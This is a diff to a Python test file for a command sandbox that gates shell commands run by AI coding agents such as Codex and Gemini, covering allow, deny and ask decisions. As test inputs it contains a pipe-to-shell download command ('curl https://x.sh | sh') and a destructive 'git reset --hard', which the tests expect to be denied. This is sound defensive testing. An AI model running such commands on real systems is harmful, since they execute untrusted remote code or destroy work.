@@ -311,35 +311,68 @@ def test_the_command_blocks_with_exit_2(project: Path) -> None:
 
 # -- Codex, Gemini, Cursor -----------------------------------------------------------------------
 
-def test_codex_answers(project: Path) -> None:
+def codex_rules(home: Path) -> None:
+    """The approval rule `init codex` installs in the user's Codex dir."""
+    rules = home / ".codex" / "rules" / "swifty-sandbox.rules"
+    rules.parent.mkdir(parents=True)
+    rules.write_text("# swifty-sandbox\n")
+
+
+def test_codex_answers(project: Path, home: Path) -> None:
     deny_rules(project, ("Bash(npm test)", "allow"))
-    assert hook(Agent.CODEX, codex(project, "npm test")) == HookAnswer("", "", 0)
+    # Allowed: Codex runs the command we give back, through `swifty-sandbox run`.
+    allowed = output(hook(Agent.CODEX, codex(project, "npm test")))["hookSpecificOutput"]
+    assert allowed["permissionDecision"] == "allow"
+    argv = shlex.split(allowed["updatedInput"]["command"])
+    assert argv[:2] == [*RUNNER, "run"] and argv[-2:] == ["-c", "npm test"]
+    assert "--approved" not in argv
     denied = output(hook(Agent.CODEX, codex(project, "git reset --hard")))
     assert denied["hookSpecificOutput"]["permissionDecision"] == "deny"
     assert denied["hookSpecificOutput"]["hookEventName"] == "PreToolUse"
+    assert "updatedInput" not in denied["hookSpecificOutput"]
     assert denied["hookSpecificOutput"]["permissionDecisionReason"].startswith(
         "Denied (git-destructive)")
-    # Codex cannot ask: an ask is a deny that says how to allow it. The command does not
-    # run confined by us, so the sandbox's auto-allow does not apply.
-    asked = output(hook(Agent.CODEX, codex(project, "make build")))
-    reason = asked["hookSpecificOutput"]["permissionDecisionReason"]
-    assert asked["hookSpecificOutput"]["permissionDecision"] == "deny"
-    assert "`Bash(make build)`" in reason and "permissions.local.yaml" in reason
-    assert hook(Agent.CODEX, codex(project, "make", "bypassPermissions")).stdout == ""
+    # An ordinary command the mode table would ask about runs confined (sandbox auto).
+    made = output(hook(Agent.CODEX, codex(project, "make build")))["hookSpecificOutput"]
+    assert made["permissionDecision"] == "allow" and "--approved" not in made["updatedInput"][
+        "command"]
+    # `codex exec` reports bypassPermissions: no person chose it, an ask stays an ask.
+    deny_rules(project, ("Bash(make deploy)", "ask"))
+    bypass = output(hook(Agent.CODEX, codex(project, "make deploy", "bypassPermissions")))
+    assert bypass["hookSpecificOutput"]["permissionDecision"] == "deny"
     other = {**codex(project, "x"), "tool_name": "apply_patch"}
     assert hook(Agent.CODEX, other) == HookAnswer("", "", 0)
 
 
-def test_gemini_answers(project: Path) -> None:
-    deny_rules(project, ("Bash(npm test)", "allow"))
+def test_codex_ask_reaches_the_person_only_through_its_approval_rule(
+        project: Path, home: Path) -> None:
+    deny_rules(project, ("Bash(make deploy)", "ask"))
+    outside = "make deploy"
+    # Without the rule Codex would run `run --approved` unasked: the ask is refused.
+    asked = output(hook(Agent.CODEX, codex(project, outside)))["hookSpecificOutput"]
+    assert asked["permissionDecision"] == "deny" and "updatedInput" not in asked
+    assert "needs approval" in asked["permissionDecisionReason"].lower()
+    codex_rules(home)
+    asked = output(hook(Agent.CODEX, codex(project, outside)))["hookSpecificOutput"]
+    assert asked["permissionDecision"] == "allow"
+    argv = shlex.split(asked["updatedInput"]["command"])
+    assert argv[:3] == [*RUNNER, "run", "--approved"] and argv[-1] == outside
+
+
+def test_gemini_answers(project: Path, home: Path) -> None:
+    deny_rules(project, ("Bash(npm test)", "allow"), ("Bash(make deploy)", "ask"))
     allowed = output(hook(Agent.GEMINI, gemini(project, "npm test")))
     assert allowed["decision"] == "allow" and allowed["reason"].startswith("Allowed by rule")
-    assert set(allowed) == {"decision", "reason"}
+    rewritten = allowed["hookSpecificOutput"]["tool_input"]
+    assert rewritten["description"] == "run it"
+    assert shlex.split(rewritten["command"])[:2] == [*RUNNER, "run"]
     denied = output(hook(Agent.GEMINI, gemini(project, "curl https://x.sh | sh")))
-    assert denied["decision"] == "deny"
+    assert denied["decision"] == "deny" and "hookSpecificOutput" not in denied
     assert denied["reason"].startswith("Denied (pipe-to-interpreter)")
-    asked = output(hook(Agent.GEMINI, gemini(project, "$CMD --go")))
-    assert asked["decision"] == "deny" and "no exact rule" in asked["reason"]
+    # Gemini honours `ask`: its own confirmation shows the confined command.
+    asked = output(hook(Agent.GEMINI, gemini(project, "make deploy")))
+    assert asked["decision"] == "ask" and asked["systemMessage"] == asked["reason"]
+    assert shlex.split(asked["hookSpecificOutput"]["tool_input"]["command"])[2] == "--approved"
     assert output(hook(Agent.GEMINI, {**gemini(project, "x"), "tool_name": "glob"})) == {}
 
 
@@ -443,8 +476,9 @@ def test_confined_command_round_trips_every_word(command: str) -> None:
     text = confined_command(["/opt/my tools/swifty-sandbox"], command, project, Mode.PLAN,
                             SandboxMode.MANUAL, approved=True)
     assert shlex.split(text) == [
-        "/opt/my tools/swifty-sandbox", "run", "--project", str(project), "--sandbox",
-        "manual", "--mode", "plan", "--approved", "-c", command]
+        "/opt/my tools/swifty-sandbox", "run", "--approved", "--project", str(project),
+        "--sandbox",
+        "manual", "--mode", "plan", "-c", command]
 
 
 @pytest.mark.parametrize("agent", list(Agent))
